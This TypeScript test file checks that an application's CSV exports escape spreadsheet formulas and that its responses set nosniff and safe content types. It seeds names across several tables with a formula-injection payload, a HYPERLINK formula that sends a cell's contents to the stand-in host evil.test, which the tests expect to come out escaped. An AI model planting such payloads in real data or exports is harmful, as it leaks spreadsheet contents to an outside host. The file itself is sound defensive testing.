import { allPrivileges } from '@packline/domain/access/privileges.ts'
import { describe, expect, test } from 'vitest'
import { signInAs } from '../people.ts'
import { nameOf, probeOf, routesOf } from '../route-probes.ts'
import { createTestApp } from '../test-app.ts'
import { goOut, startTestingPeriod } from '../testing-period.ts'

const app = await createTestApp()
const { db } = app
const { scene, pendingId } = await startTestingPeriod(app)
await goOut(app)
const reader = await signInAs(app, { accountId: scene.accountId, privileges: allPrivileges })
const routes = routesOf((await app.app.inject({ method: 'GET', url: '/api/docs/json' })).json())
const files = routes.filter(({ path }) => path.endsWith('.csv'))

const formula = `=HYPERLINK("http://evil.test/?"&A1,"Open")`
/** Whatever has a name bears the formula, and its id behind it where names are there once only. */
const named = {
  IntegrationPack: 'name',
  Component: 'name',
  Account: 'name',
  Environment: 'name',
  Installation: 'name',
  User: 'firstName',
}
for (const [table, column] of Object.entries(named))
  await db.$executeRawUnsafe(`update "${table}" set "${column}" = $1 || ' ' || id`, formula)
await db.release.updateMany({ data: { scheduledByName: formula } })

const call = async (route: (typeof routes)[number]) => {
  const { method, path, query } = probeOf(route, ({ kind }) => idOf[kind] ?? pendingId, reader.email)
  return reader.call(method, path, { query })
}
const idOf: Record<string, string> = { packId: scene.pack.id, componentId: scene.orders.id }

/** The cells of a CSV file as a spreadsheet has them. */
const cellsOf = (text: string) =>
  [...text.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map(
    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
  )

describe('15 no cell of an export is a formula', () => {
  test('there are exports', () => expect(files.length).toBeGreaterThanOrEqual(3))

  test.each(files.map((route) => [nameOf(route), route] as const))('%s', async (_name, route) => {
    // What somebody of that name does is in the log of the pack, with the name.
    const body = { description: `Changed ${Math.random()}` }
    expect((await reader.call('PATCH', `/integration-packs/${scene.pack.id}`, { body })).statusCode).toBe(200)
    const answer = await call(route)
    expect(answer.statusCode, answer.body).toBe(200)
    expect(answer.headers['content-disposition']).toMatch(/^attachment/)
    const cells = cellsOf(answer.body)
    expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([])
    // What somebody called it is there all the same, as text.
    expect(
      cells.some((cell) => cell.startsWith(`'${formula}`)),
      answer.body,
    ).toBe(true)
  })
})

describe('14 nothing that is answered is read as a page', () => {
  const reads = routes.filter(({ method, path }) => method === 'GET' && path !== '/events')

  test.each(reads.map((route) => [nameOf(route), route] as const))('%s', async (_name, route) => {
    const { headers } = await call(route)
    expect(headers['x-content-type-options']).toBe('nosniff')
    const type = headers['content-type'] ?? 'application/json'
    const isFile = String(headers['content-disposition']).startsWith('attachment')
    expect(isFile || /^(application\/json|text\/calendar)/.test(type), type).toBe(true)
  })
})
